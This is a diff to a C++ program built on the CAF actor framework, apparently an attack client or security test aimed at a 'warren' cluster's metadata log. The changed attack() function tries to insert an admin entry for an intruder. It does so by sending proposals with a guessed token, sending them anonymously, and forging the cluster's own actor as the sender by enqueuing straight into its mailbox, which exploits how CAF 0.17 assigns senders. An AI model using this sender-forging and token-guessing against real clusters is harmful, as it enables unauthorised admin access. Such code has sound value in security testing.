@@ -16,6 +16,8 @@
 #include <caf/actor_system.hpp>
 #include <caf/actor_system_config.hpp>
 #include <caf/io/middleman.hpp>
+#include <caf/mailbox_element.hpp>
+#include <caf/message_id.hpp>
 #include <caf/openssl/manager.hpp>
 #include <caf/openssl/remote_actor.hpp>
 #include <caf/scoped_actor.hpp>
@@ -65,10 +67,18 @@ void attack(caf::actor_system& system, const caf::actor& cluster) {
   // A change for the metadata log: as this node's own actors send it, and as a member forwards
   // it to the leader; each as itself and anonymously.
   auto entry = admin_entry_for_intruder();
-  self->send(cluster, warren::propose_atom::value, entry);
-  caf::anon_send(cluster, warren::propose_atom::value, entry);
+  const uint64_t guessed_token = 0x5eed;
+  self->send(cluster, warren::propose_atom::value, guessed_token, entry);
+  caf::anon_send(cluster, warren::propose_atom::value, guessed_token, entry);
   self->send(cluster, warren::propose_atom::value, std::string("a"), entry);
   caf::anon_send(cluster, warren::propose_atom::value, std::string("a"), entry);
+  // Naming the node's own cluster actor as the sender: CAF 0.17's BASP gives the message that
+  // local sender on the node's side.
+  auto forged = caf::actor_cast<caf::strong_actor_ptr>(cluster);
+  caf::actor_cast<caf::abstract_actor*>(cluster)->enqueue(
+      caf::make_mailbox_element(forged, caf::make_message_id(), {}, warren::propose_atom::value,
+                                guessed_token, entry),
+      nullptr);
   std::cout << "sent: replicate access change, metadata view, metadata log proposals" << std::endl;
   const std::pair<caf::atom_value, const char*> registered[] = {
       {caf::atom("ConfigServ"), "ConfigServ"}, {caf::atom("SpawnServ"), "SpawnServ"}};
